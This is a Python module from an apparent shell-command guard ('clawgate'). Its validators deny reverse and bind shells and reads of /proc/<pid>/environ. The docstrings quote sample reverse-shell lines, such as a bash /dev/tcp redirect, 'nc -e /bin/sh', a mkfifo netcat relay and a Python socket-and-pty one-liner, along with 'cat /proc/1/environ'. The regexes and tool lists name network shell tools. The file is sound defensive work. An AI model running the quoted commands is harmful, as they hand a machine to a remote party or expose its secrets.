"""Reverse and bind shells, and reading another process's environment: DENY.

A shell whose input and output are a network socket hands the machine to whoever is at the
other end; ``/proc/<pid>/environ`` holds the secrets a process was started with.
"""

from __future__ import annotations

import re

from clawgate.decision import NO_OPINION, Outcome, Risk, Verdict
from clawgate.lazyre import lazy_pattern
from clawgate.shell.model import ParsedLine, SimpleCommand
from clawgate.validators import lineshapes as ls
from clawgate.validators import shapes as sh
from clawgate.validators.base import Context, LineValidator, Validator, register
from clawgate.validators.procfs import may_read_environ, process_tree, reads_environ

SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "csh", "tcsh", "ash",
                    "busybox"})
RELAYS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat"})
_NETCATS = frozenset({"nc", "ncat", "netcat", "cryptcat"})
_NETCAT_EXEC = lazy_pattern(r"^-[a-zA-Z]*[ec]|^--(exec|sh-exec|lua-exec)\b")
_SOCAT_EXEC = lazy_pattern(r"(^|[,!:])\s*(exec|system)\s*:", re.IGNORECASE)
_NET_DEVICE = lazy_pattern(r"/dev/(tcp|udp)/")
_INTERPRETERS = frozenset({"python", "pypy", "perl", "ruby", "php", "node", "nodejs", "deno", "bun",
                           "lua", "luajit", "tclsh", "wish", "awk", "gawk", "mawk", "nawk",
                           "jrunscript", "jjs", "R", "Rscript", "osascript"})
_VERSION = "0123456789."
_SOCKET = lazy_pattern(r"socket|fsockopen|TCPSocket|IO::Socket|net\.(connect|Socket|"
                       r"createConnection)|require\(\s*['\"]net['\"]|/inet/(tcp|udp)/|/dev/tcp/")
_SPAWN = lazy_pattern(r"subprocess|pty\.spawn|dup2|\bexec|spawn|\bsystem\b|popen|/bin/\w*sh\b|"
                      r"child_process|proc_open|shell_exec|passthru|/inet/(tcp|udp)/|\bsh\b")
_ENVIRON = lazy_pattern(r"/proc/[^/\s]+/(task/[^/\s]+/)?environ\b")
_GLOB_CHARS = frozenset("*?[")
_ALWAYS_RECURSIVE = frozenset({"rg", "ag", "ack", "ugrep", "tar", "bsdtar", "rsync", "7z", "zip"})
_RECURSIVE_WITH_FLAG = frozenset({"grep", "egrep", "fgrep", "zgrep", "cp", "scp"})
# code that builds the path from parts: pathlib.Path("/proc", pid, "environ")
_CODE_ENVIRON = lazy_pattern(r"/proc\b[^\n]{0,200}?[\"'](?:environ|mem)[\"']")
_FIND_ACTIONS = frozenset({"-exec", "-execdir", "-ok", "-okdir"})
_INVOLVED = SHELLS | RELAYS
_TALKERS = frozenset({"echo", "printf", "ls", "stat", "test", "["})


@register
class NetworkDeviceRedirect(Validator):
    """bash's ``/dev/tcp`` and ``/dev/udp`` open a socket from a redirection: the core of most
    reverse shells. Bad: ``bash -i >& /dev/tcp/10.0.0.1/4444 0>&1``. Harmless:
    ``echo 'see /dev/tcp in the manual'`` (an argument to echo opens nothing).
    """

    id = "CG-CAT-008"

    def shapes(self, program: str | None) -> int:
        return sh.REDIRECT if program in _TALKERS else sh.REDIRECT | sh.DEV

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        for redirect in cmd.redirects:
            if redirect.target is not None and _NET_DEVICE.search(redirect.target.text):
                return Verdict.deny(self.id, "a redirection opens a network socket "
                                    f"({redirect.target.text})")
        if cmd.program in _TALKERS or "/dev/" not in cmd.text:
            return NO_OPINION
        for word in cmd.words[1:]:
            if _NET_DEVICE.search(word.text):
                return Verdict.deny(self.id, f"{cmd.program} opens a network socket via "
                                    f"{word.text}")
        return NO_OPINION


@register
class ShellOverNetcat(Validator):
    """netcat/socat running a program for the peer (``nc -e``, ``socat exec:``), or a shell
    and a network relay in one pipeline (the ``mkfifo`` relay): a reverse or bind shell.

    Bad: ``nc -e /bin/sh 10.0.0.1 4444``, ``cat /tmp/f | sh -i | nc h 4444 > /tmp/f``.
    Harmless: ``nc -zv localhost 8080`` (a port check).
    """

    id = "CG-CAT-009"
    programs = _INVOLVED

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        program = cmd.program
        if program not in _INVOLVED:
            return NO_OPINION
        if program in _NETCATS and any(_NETCAT_EXEC.match(w.shown) for w in cmd.words[1:]):
            return Verdict.deny(self.id, f"{program} runs a program for the network peer")
        if program == "socat" and any(_SOCAT_EXEC.search(w.shown) for w in cmd.words[1:]):
            return Verdict.deny(self.id, "socat runs a program for the network peer")
        if program in RELAYS and (cmd.pipes_into(SHELLS) or cmd.pipes_from(SHELLS)):
            return Verdict.deny(self.id, f"a shell piped through {program}: a remote shell")
        if program in SHELLS and (cmd.pipes_into(RELAYS) or cmd.pipes_from(RELAYS)):
            return Verdict.deny(self.id, f"{program} piped through a network relay")
        return NO_OPINION


@register
class RelayedShellLine(LineValidator):
    """One line that pipes a shell and pipes a network relay: the ``mkfifo`` relay
    (``cat f | sh -i 2>&1 | nc h 4444 > f``) seen whole, however the pipeline is split.

    Bad: ``mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f``.
    Harmless: ``nc -z localhost 80 && bash build.sh`` (neither is piped).
    """

    id = "CG-CAT-012"

    def line_shapes(self) -> int:
        return ls.MULTI

    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
        piped = [cmd.program for cmd in parsed.commands if cmd.pipeline]
        if SHELLS.isdisjoint(piped) or RELAYS.isdisjoint(piped):
            return NO_OPINION
        return Verdict.deny(self.id, "a shell and a network relay piped in one line: a "
                            "remote shell")


@register
class InterpreterReverseShell(Validator):
    """Inline interpreter code that opens a socket and starts a process on it.

    Bad: ``python3 -c 'import socket,subprocess,os; s=socket.socket(); ... pty.spawn("sh")'``.
    Harmless: ``python3 -c 'import socket; print(socket.gethostname())'``.
    """

    id = "CG-CAT-010"
    programs = _INTERPRETERS

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        program = cmd.program
        if program is None or program.rstrip(_VERSION) not in _INTERPRETERS:
            return NO_OPINION
        code = " ".join([w.text for w in cmd.words[1:]]
                        + [r.heredoc for r in cmd.redirects if r.heredoc])
        if _SOCKET.search(code) and _SPAWN.search(code):
            return Verdict.deny(self.id, f"{program} code opens a socket and runs a process "
                                "on it: a reverse shell")
        return NO_OPINION


@register
class ProcessEnvironment(Validator):
    """Reading ``/proc/<pid>/environ``: the variables a process started with, API keys
    included, however the path is spelt (``/proc/self/../$PPID/environ``, ``/proc//1/./environ``,
    ``/proc/1/env*``, a symlink into ``/proc``; see ``procfs``), or its memory
    (``/proc/<pid>/mem``), or a process's directory read recursively (``grep -r KEY /proc/1``).
    Bad: ``cat /proc/1/environ``. Harmless: ``cat /proc/cpuinfo``.
    """

    id = "CG-CAT-011"

    def shapes(self, program: str | None) -> int:
        return 0 if program in _TALKERS else sh.PROCISH | sh.REDIRECT

    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
        text = cmd.text
        if not ("env" in text or "mem" in text or "proc" in text or _GLOB_CHARS & set(text)
                or cmd.redirects):
            return NO_OPINION
        if cmd.program in _TALKERS:
            return NO_OPINION
        words = [*cmd.words[1:], *(r.target for r in cmd.redirects if r.target is not None)]
        for word in words:
            if _ENVIRON.search(word.text) or reads_environ(word.text, ctx.cwd):
                return Verdict.deny(self.id, f"reads a process environment ({word.text})",
                                    hint="print only the variable you need with printenv NAME")
        for word in words:
            if _CODE_ENVIRON.search(word.text) or may_read_environ(word.text, ctx.cwd):
                return Verdict.of(Outcome.ASK, self.id, f"{word.text} may be a process "
                                  "environment: where it points is known only when it runs",
                                  hint="name the file plainly", risk=Risk.HIGH)
        if _recursive(cmd) and "proc" in cmd.text:
            for word in cmd.words[1:]:
                if process_tree(word.text, ctx.cwd):
                    return Verdict.deny(self.id, f"reads {word.text} recursively, the "
                                        "environment of every process in it included")
        return NO_OPINION


def _recursive(cmd: SimpleCommand) -> bool:
    """A program that reads what a directory holds, all the way down."""
    program = cmd.program or ""
    flags = [w.shown for w in cmd.words[1:] if w.shown.startswith("-")]
    if program in _ALWAYS_RECURSIVE:
        return True
    if program in _RECURSIVE_WITH_FLAG:
        return any(f in ("--recursive", "--dereference-recursive", "-a", "--archive")
                   or (not f.startswith("--") and ("r" in f or "R" in f)) for f in flags)
    return program == "find" and any(f in _FIND_ACTIONS for f in flags)
